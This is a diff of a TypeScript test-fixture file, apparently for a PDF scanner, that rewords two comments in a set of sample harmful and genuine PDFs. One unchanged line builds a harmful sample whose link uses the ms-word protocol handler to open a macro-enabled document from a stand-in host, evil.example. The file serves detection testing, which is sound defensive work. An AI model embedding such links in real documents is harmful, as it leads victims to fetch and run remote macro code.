@@ -1,4 +1,4 @@
-/** PDFs that fetch or start something in a way that few know, and genuine ones that look alike. */
+/** PDFs that fetch or start something in little-known ways, and similar genuine ones. */
 import type { Harmful } from './harmful-pdfs.ts';
 import { ADDRESSES } from './odd-addresses.ts';
 import { CATALOGUE, CONTENTS, PAGE, PAGES, pdf, stream } from './pdf.ts';
@@ -53,7 +53,7 @@ export const oddHarmfulPdfs: Harmful[] = [
   unsafe('a link to a program of the system', withMarks(linkTo('ms-word:ofe|u|https://evil.example/a.docm'))),
 ];
 
-/** The marks of a text of a hundred pages, as Word writes them for readers who do not see. */
+/** The tags of a text of a hundred pages, as Word writes them for screen readers. */
 const marks = Array.from(
   { length: 30_000 },
   (_, index) => `<< /Type /StructElem /S /P /P 5 0 R /K [${index}] /Pg 3 0 R /A << /O /Layout /Placement /Block >> >>`,
